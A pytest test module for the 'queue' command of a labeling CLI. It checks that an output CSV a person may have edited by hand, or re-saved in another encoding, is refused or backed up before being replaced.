# ------------------------------------- issue 62: every cell a person could have filled


def _queue_rows(n: int = 3) -> list[list[str]]:
    preds = [_pred(f"text {i}", [0.4, 0.35, 0.25], id=str(i)) for i in range(n)]
    out = io.StringIO()
    write_queue(rank_pool(preds, LABELS, "margin", n), LABELS, "margin", ["id"], out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def _csv_text(rows: list[list[str]]) -> str:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue()


def _given_label_typed(rows):
    rows[1][-2] = "negative"  # given_label, which the queue leaves empty on a queued row
    rows[2][-2] = "positive"
    return _csv_text(rows).encode()


def _label_renamed(rows):
    rows[0][2], rows[1][2] = "my label", "negative"
    return _csv_text(rows).encode()


def _column_added(rows):
    for i, row in enumerate(rows):
        row.append("notes" if i == 0 else "sarcastic?" * (i == 1))
    return _csv_text(rows).encode()


def _row_added(rows):
    rows.append(["9", "a text I typed in", "", *[""] * (len(rows[0]) - 3)])
    return _csv_text(rows).encode()


def _utf16(rows):  # a spreadsheet's "Unicode text" save, label column empty
    return _csv_text(rows).encode("utf-16")


def _utf16_no_mark(rows):
    return _csv_text(rows).encode("utf-16-le")


def _windows_code_page(rows):
    rows[1][1] = "café"
    return _csv_text(rows).encode("cp1252")


WORK = "the queue would replace it. Give another --out, or pass --force to replace it " \
    "(the old file is then kept as to_label.csv.1.bak). Nothing was written"


@pytest.mark.parametrize(("edit", "what", "short"), [
    (_given_label_typed, "holds 2 rows with a given_label the queue leaves empty (filled in "
     "by hand)", "2 filled-in given_labels"),
    (_label_renamed, "has a header the queue does not write (its columns: id, text, my label, "
     "predicted, p_negative, p_neutral, p_positive, margin, rank, given_label, reason): "
     "another file, or the queue's with a column renamed, added or removed, and it may hold "
     "someone's work", "a header not the queue's"),
    (_column_added, "has a header the queue does not write (its columns: id, text, label, "
     "predicted, p_negative, p_neutral, p_positive, margin, rank, given_label, reason, "
     "notes): another file, or the queue's with a column renamed, added or removed, and it "
     "may hold someone's work", "a header not the queue's"),
    (_row_added, "holds 1 row the queue did not write (no rank or no reason: added by hand)",
     "1 added row"),
    (_utf16, "is in UTF-16 (it starts with UTF-16's byte-order mark), not the UTF-8 the "
     "queue writes: it was saved again, by hand or by a spreadsheet, and may hold labels",
     "in UTF-16"),
    (_utf16_no_mark, "holds NUL bytes, which the queue never writes (UTF-16 without a "
     "byte-order mark?): it was saved again and may hold labels", "with NUL bytes"),
    (_windows_code_page, "is not UTF-8, the encoding the queue writes (byte 94 cannot be "
     "decoded): it was saved again in another encoding and may hold labels", "not in UTF-8"),
])
def test_any_cell_a_person_could_have_filled_is_their_work(workspace, fake_adapter, edit,
                                                             what, short):
    """Issue 62: labels typed into given_label, a renamed or new column, or a UTF-16
    re-save counted as "0 labelled rows", and --out was replaced, exit 0, no copy kept."""
    path = workspace / "to_label.csv"
    path.write_bytes(before := edit(_queue_rows()))
    refused = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert refused.exit_code == 1
    assert refused.output == f"lorasent queue: error: --out to_label.csv: {what}; {WORK}\n"
    assert path.read_bytes() == before
    assert sorted(p.name for p in workspace.iterdir()) == ["data", "pool.csv", "to_label.csv"]
    forced = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1", "--force"])
    assert forced.exit_code == 0, forced.output
    assert f"kept the old to_label.csv ({short}) as to_label.csv.1.bak\n" in forced.stderr
    assert (workspace / "to_label.csv.1.bak").read_bytes() == before
    assert written_by_queue(path)


def test_the_queues_own_file_untouched_is_replaced_and_the_audits_given_label_is_its_own(
        workspace, fake_adapter):
    rows = _queue_rows()
    rows[1][-2], rows[1][-1] = "neutral", "label audit (confident learning) on the training"
    (workspace / "to_label.csv").write_text(_csv_text(rows), encoding="utf-8")
    done = CliRunner().invoke(main, ["queue", "pool.csv", "--budget", "1"])
    assert done.exit_code == 0, done.output
    assert "kept the old" not in done.stderr
